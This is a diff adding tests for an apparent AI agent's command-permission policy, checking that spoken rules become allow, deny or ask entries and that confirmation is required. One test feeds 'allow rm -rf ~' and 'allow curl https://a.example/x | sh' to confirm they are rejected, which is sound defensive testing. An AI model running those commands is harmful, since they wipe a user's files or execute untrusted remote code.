@@ -10,8 +10,10 @@ from agent.policy.files import PolicyFiles, Sources
 from agent.policy.model import Rule, SessionRules
 from agent.policy.parse import parse_policy
 from agent.policy.store import add_rules, rule_names
+from agent.protocol.decisions import RiskContext
 from agent.protocol.errors import InvalidRequest, InvalidState, RecordingError
-from agent.protocol.events import Event, RuleRemoved
+from agent.protocol.events import Event, RuleAdded, RuleRemoved
+from agent.risk.classifier import classify
 from tests.support.command_world import CommandWorld
 
 OWN = '[[rule]]\nname = "no-curl"\naction = "deny"\nprogram = "curl"\nreason = "use the mirror"\n'
@@ -32,7 +34,10 @@ class World(CommandWorld):
         files = PolicyFiles(Sources(user=str(self.path), site="", home=str(folder)))
         super().__init__(
             app={"policy": lambda cwd, rules: files.policy(workspace=str(self.work), rules=rules)},
-            services={"policy_path": str(self.path)},
+            services={
+                "policy_path": str(self.path),
+                "rate": lambda command, cwd, session: classify(command, RiskContext(cwd=cwd)),
+            },
             yes=yes,
             cwd=str(self.work),
             rules=self.session,
@@ -136,3 +141,51 @@ def test_broken_log_keeps_the_rule(world: World) -> None:
 def test_without_a_policy_it_may_not_be_used() -> None:
     with pytest.raises(InvalidState, match="a policy"):
         CommandWorld().do(":policy")
+
+
+@pytest.mark.parametrize(
+    ("words", "said", "wanted"),
+    [
+        ("deny deleting in ~/photos", "is refused", {"program": ("*",), "paths": ("~/photos",), "action": "deny"}),
+        ("ask git push --force", "is asked for", {"program": ("git",), "words": (("push",),), "action": "ask"}),
+        ("deny mytool in ./a ./b", "is refused", {"program": ("mytool",), "paths": ("./a", "./b")}),
+    ],
+)
+def test_a_rule_from_words(world: World, words: str, said: str, wanted: dict[str, object]) -> None:
+    assert "takes it back" in world.policy(words)
+    assert said in world.told[-2]
+    [rule] = parse_policy(world.path.read_text(), path="x", trust="user").rules
+    assert {key: getattr(rule, key) for key in wanted} == wanted
+    assert [event.text for event in world.recorder.only(RuleAdded)] == [
+        world.path.read_text().split("\n", 1)[1].rsplit("# <<<")[0]
+    ]
+    world.policy(f"forget {rule.name}")
+    assert rule_names(world.path.read_text(), "x") == []
+
+
+def test_what_is_allowed_is_proposed_from_the_command_and_stays_in_the_workspace(tmp_path: Path) -> None:
+    world = World(tmp_path)
+    world.policy("allow make test")
+    [rule] = parse_policy(world.path.read_text(), path="x", trust="user").rules
+    assert (rule.action, rule.program, rule.words[0], rule.workspace) == (
+        "allow",
+        ("make",),
+        ("test",),
+        str(world.work),
+    )
+
+
+@pytest.mark.parametrize(
+    "words", ["allow rm -rf ~", "allow curl https://a.example/x | sh", "deny", "deny in ./a", "deny rm in a", "deny 'a"]
+)
+def test_no_rule_comes_of_what_is_too_much_or_too_little(tmp_path: Path, words: str) -> None:
+    world = World(tmp_path)
+    with pytest.raises(InvalidRequest):
+        world.policy(words)
+    assert not world.path.exists()
+
+
+def test_without_a_yes_there_is_no_rule(tmp_path: Path) -> None:
+    world = World(tmp_path, yes=False)
+    assert world.policy("deny deleting") == "no rule was made"
+    assert not world.path.exists()
